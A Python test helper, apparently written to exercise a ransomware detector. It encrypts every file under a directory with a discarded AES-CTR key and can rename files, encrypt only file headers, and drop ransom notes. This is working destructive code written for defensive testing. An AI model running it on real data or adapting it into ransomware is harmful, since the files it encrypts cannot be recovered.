#!/usr/bin/env python3
"""Behaves like ransomware on a tree, for the end-to-end test of the
ransomware signals (ransomware_process_test.cc). Never run it on data you
care about: it encrypts every regular file under DIR with a key nobody keeps.

  encrypt.py DIR [--only SUBDIR] [--extension .EXT] [--note NAME]
                 [--intermittent BYTES]

  --only SUBDIR        only the files under DIR/SUBDIR (default: all)
  --extension .EXT     rename each encrypted file NAME -> NAME.EXT, as most
                       families do (default: keep the name)
  --note NAME          drop a ransom note NAME in every directory touched
  --intermittent BYTES encrypt only the first BYTES of each file and leave the
                       rest as it was, as the families that favour speed do

The cipher is AES-256 in counter mode from one `openssl enc -aes-256-ctr`
process (its keystream, XORed with each file in turn: what CTR mode is), so a
tree of thousands of files takes seconds, not one process per file. Each file
is written anew and renamed into place (a new inode), as a backup of the
encrypted source would be: hard links to earlier restore points keep their
content.
"""
import argparse
import os
import secrets
import subprocess


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("dir")
    ap.add_argument("--only", default="")
    ap.add_argument("--extension", default="")
    ap.add_argument("--note", default="")
    ap.add_argument("--intermittent", type=int, default=0)
    a = ap.parse_args()
    top = os.path.join(a.dir, a.only)
    files = []
    for d, _, names in os.walk(top):
        files.extend(os.path.join(d, n) for n in names)
    files.sort()
    keystream = subprocess.Popen(
        ["openssl", "enc", "-aes-256-ctr", "-K", secrets.token_hex(32), "-iv",
         secrets.token_hex(16), "-in", "/dev/zero"],
        stdout=subprocess.PIPE)
    dirs = set()
    for f in files:
        with open(f, "rb") as src:
            data = src.read()
        n = len(data) if a.intermittent <= 0 else min(len(data), a.intermittent)
        ks = keystream.stdout.read(n)
        head = (int.from_bytes(data[:n], "big") ^ int.from_bytes(ks, "big")).to_bytes(n, "big")
        tmp = f + ".tmp-enc"
        with open(tmp, "wb") as dst:
            dst.write(head + data[n:])
        os.replace(tmp, f + a.extension)
        if a.extension:
            os.remove(f)
        dirs.add(os.path.dirname(f))
    keystream.kill()
    keystream.wait()
    if a.note:
        for d in dirs:
            with open(os.path.join(d, a.note), "w") as note:
                note.write("Your files are encrypted.\n"
                           "To recover them, write to recover@example.invalid\n")
    print("encrypted %d files in %d directories under %s" % (len(files), len(dirs), top))


if __name__ == "__main__":
    main()
